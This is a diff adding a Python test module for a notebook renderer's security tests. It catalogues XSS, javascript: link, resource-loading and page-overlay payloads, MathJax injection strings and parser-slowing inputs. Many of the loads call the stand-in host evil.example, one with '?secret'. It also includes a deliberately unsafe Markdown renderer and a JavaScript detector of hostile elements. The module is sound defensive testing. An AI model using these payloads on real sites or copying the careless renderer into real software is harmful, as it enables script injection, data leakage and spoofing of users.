@@ -1,0 +1,197 @@
+"""What a hostile model, tool or file could say, and how one finds that it worked.
+
+`PAYLOADS` are numbered. A payload that runs calls `hit(number)`, one that loads something asks `evil.example/number`,
+and the others leave something in the page that `FOUND` finds. `naive` is what a careless notebook tool would show:
+there they all work, which `tests/browser/test_hostile.py` proves before it shows that none does in ours.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+
+from markdown_it import MarkdownIt
+
+HOST = "evil.example"
+
+
+@dataclass(frozen=True)
+class Payload:
+    """`text` as a model would say it; `effect` is what happens where it is shown carelessly.
+
+    runs: it calls `hit` by itself · clicked: it does when its link or button is clicked · loads: it asks a foreign
+    server · covers: it lies over the page · link: a link that is no web address · control: characters that hide or
+    reorder what is read.
+    """
+
+    number: int
+    effect: str
+    text: str
+
+
+_EFFECTS = {
+    "runs": [
+        "<script>hit(N)</script>",
+        "<SCRIPT\n>hit(N)</SCRIPT\n>",
+        "<script type=module>hit(N)</script>",
+        "</pre></details></div></td></style></textarea></title><script>hit(N)</script>",
+        "\"'><script>hit(N)</script>",
+        "`x`<script>hit(N)</script>`",
+        "<img src=x onerror=hit(N)>",
+        "<ImG sRc=x OnErRoR='hit(N)'>",
+        '"><img src="x`" onerror="hit(N)">',
+        "<noscript><p title=\"</noscript><img src=x onerror=hit(N)>\">",
+        "<svg onload=hit(N)></svg>",
+        "<svg><animate onbegin=hit(N) attributeName=x dur=1s></animate></svg>",
+        "<svg><script>hit(N)</script></svg>",
+        "<svg><foreignObject><img src=x onerror=hit(N)></foreignObject></svg>",
+        "<math><mtext></p><img src=x onerror=hit(N)></mtext></math>",
+        "<body onload=hit(N)>",
+        "<details open ontoggle=hit(N)>x</details>",
+        "<video><source src=x onerror=hit(N)></video>",
+        "<audio src=x onerror=hit(N)></audio>",
+        "<input type=image src=x: onerror=hit(N)>",
+        "<style onload=hit(N)></style>",
+        "<link rel=stylesheet href=data:text/css,x onload=hit(N)>",
+        "<iframe onload=hit(N)></iframe>",
+        "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
+        "<iframe src=javascript:parent.hit(N)></iframe>",
+        "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=hit(N)>x</p>",
+    ],
+    "clicked": [
+        "[x](javascript:hit(N))",
+        "[x](JaVaScRiPt:hit(N))",
+        "[x](&#106;avascript:hit(N))",
+        "[x](javascript&colon;hit(N))",
+        "[x](java&Tab;script:hit(N))",
+        "[x](<java&NewLine;script:hit(N)>)",
+        "[x](&#x6A;avascript:hit(N))",
+        "<javascript:hit(N)>",
+        "[x][rN]\n\n[rN]: javascript:hit(N)",
+        "[rN]: javascript:hit(N) 'title'\n\n[rN]",
+        "[**x**`y`](javascript:hit(N) \"title\")",
+        "<a href=javascript:hit(N)>x</a>",
+        "<a href=' &#14; java\tscript:hit(N)'>x</a>",
+        "<svg><a xlink:href=javascript:hit(N)><text y=20>x</text></a></svg>",
+        "<form action=javascript:hit(N)><button>x</button></form>",
+        "<form><button formaction=javascript:hit(N)>x</button></form>",
+        "<p onclick=hit(N)><a>x</a></p>",
+    ],
+    "loads": [
+        "![x](http://evil.example/N?secret)",
+        "![x](//evil.example/N)",
+        "![x][iN]\n\n[iN]: http://evil.example/N",
+        "![iN]\n\n[iN]: <http://evil.example/N> 'title'",
+        "[![x](http://evil.example/N)](http://example.org)",
+        "| a |\n|---|\n| ![x](http://evil.example/N) |",
+        "<img src=http://evil.example/N>",
+        "<img srcset='http://evil.example/N 1x'>",
+        "<picture><source srcset=http://evil.example/N><img src=x></picture>",
+        "<video poster=http://evil.example/N></video>",
+        "<audio src=http://evil.example/N autoplay></audio>",
+        "<embed src=http://evil.example/N>",
+        "<object data=http://evil.example/N></object>",
+        "<iframe src=http://evil.example/N></iframe>",
+        "<iframe src=\"data:text/html,<img src='http://evil.example/N'>\"></iframe>",
+        "<script src=//evil.example/N></script>",
+        "<link rel=stylesheet href=http://evil.example/N>",
+        "<style>@import url(http://evil.example/N);</style>",
+        "<style>@font-face{font-family:f;src:url(http://evil.example/N)}</style><p style='font-family:f'>x</p>",
+        "<p style='background:url(http://evil.example/N)'>x</p>",
+        "<table background=http://evil.example/N><tr><td>x</table>",
+        "<input type=image src=http://evil.example/N>",
+        "<svg><image href=http://evil.example/N /></svg>",
+        "<base href=http://evil.example/><img src=N>",
+        "<meta http-equiv=refresh content='0;url=http://evil.example/N'>",
+    ],
+    "covers": [
+        "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Approve? Yes</div>",
+        "<style>div{position:fixed !important;inset:0}</style><div>x</div>",
+        "<dialog open style='position:fixed;inset:0'>x</dialog>",
+    ],
+    "link": [
+        "[x](data:text/html,<script>hit(N)</script>)",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "<a href='data:text/html,<script>hit(N)</script>'>x</a>",
+        "[x](vbscript:hit(N))",
+        "[x](file:///etc/passwd)",
+        "[x](/logout?N)",
+        "[x](../../hub/logout?N)",
+        "<vscode://file/N>",
+        "<a href=# data-commandlinker-command=notebook:run-all-cells>x</a>",
+    ],
+    "control": [
+        "\x1b[31mred\x1b[0m N",
+        "\x1b]0;title\x07 N",
+        "\x1b]8;;http://evil.example/N\x1b\\x\x1b]8;;\x1b\\",
+        "\x9b2J\x1bc N",
+        "safe\x08\x08\x08\x08evil N",
+        "photo\u202egnp.exe N",
+        "`if level != 'user\u202e \u2066# for admins\u2069 \u2066'` N",
+        "| \u202dabc\u202c |\n|---|\n| N |",
+    ],
+}  # fmt: skip
+
+PAYLOADS = [
+    Payload(number, effect, re.sub(r"\bN\b|(?<=\[[ri])N", str(number), text))
+    for number, (effect, text) in enumerate((effect, text) for effect, texts in _EFFECTS.items() for text in texts)
+]
+
+#: What MathJax, which typesets the formulas of an answer, would do with a link, a style, a class, a macro.
+MATH = [
+    r"$\href{javascript:hit(1)}{x}$",
+    r"$$\href{http://evil.example/m2}{\text{log in}}$$",
+    r"\\(\style{position:fixed;inset:0;background:url(http://evil.example/m3)}{x}\\)",
+    r"\\[\class{jp-Button}{x}\\]",
+    r"$\cssId{main}{x}$",
+    r"$\unicode[url(http://evil.example/m6)]{x41}$",
+    r"$\require{bbox}\bbox[background:url(http://evil.example/m7)]{x}$",
+    r"$\gdef\alpha{\text{lie}}\renewcommand{\beta}{\text{lie}}\let\gamma\delta$",
+    "\\begin{align}\\href{javascript:hit(9)}{x}\\end{align}",
+    r"$\texttt{&#92;href}\h*re*f &#92;href{javascript:hit(10)}{x}$",
+]
+
+#: A million brackets, and what else makes parsers slow.
+LONG = [
+    "[" * 2**20,
+    "![" * 60_000,
+    "*a **b_" * 20_000,
+    "<" * 150_000,
+    "> " * 50_000,
+    "|a" * 2_000 + "\n" + "|-" * 2_000,
+]
+
+
+def naive(text: str) -> str:
+    """Markdown as careless tools show it: with its HTML, and links to wherever."""
+    parser = MarkdownIt("commonmark", {"html": True}).enable(["table"])
+    parser.validateLink, parser.normalizeLink = lambda url: True, lambda url: url
+    return parser.render(text)
+
+
+#: JavaScript: what is wrong with the elements below some roots, as a list of strings.
+FOUND = r"""roots => {
+  const found = new Set()
+  const live = "script iframe object embed link meta base form input button svg math audio video style dialog"
+  const tags = live.split(" "), web = /^(https?|mailto):/, image = /^data:image\/(png|gif|jpeg|webp);/
+  const ours = /^((text-align|white-space|left|width): ?[\w.%]+;? ?)+$/
+  for (const root of roots) {
+    for (const each of [root, ...root.querySelectorAll("*")]) {
+      const tag = each.tagName.toLowerCase(), formula = each.closest("mjx-container")
+      if (tags.includes(tag) && !formula) found.add("element " + tag)
+      if (/^(fixed|sticky)$/.test(getComputedStyle(each).position)) found.add("covers " + tag)
+      for (const {name, value} of each.attributes) {
+        if (name.startsWith("on") || name.startsWith("data-command")) found.add("attribute " + name)
+        if (name == "style" && !formula && !ours.test(value)) found.add("style " + value)
+        if (name == "class" && /\bjp-/.test(value)) found.add("class " + value)
+        if (/^(xlink:)?href$|^action$|^formaction$/.test(name) && !web.test(value)) found.add("link " + value)
+        if (/^(src|srcset|poster|data|background)$/.test(name) && !image.test(value)) found.add(name + " " + value)
+      }
+      const opens = each.target == "_blank" && each.rel?.includes("noopener")
+      if (tag == "a" && each.href && !opens) found.add("opener " + each.outerHTML)
+    }
+    const control = root.textContent.match(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
+    if (control) found.add("control " + control[0].charCodeAt(0).toString(16))
+  }
+  return [...found]
+}"""
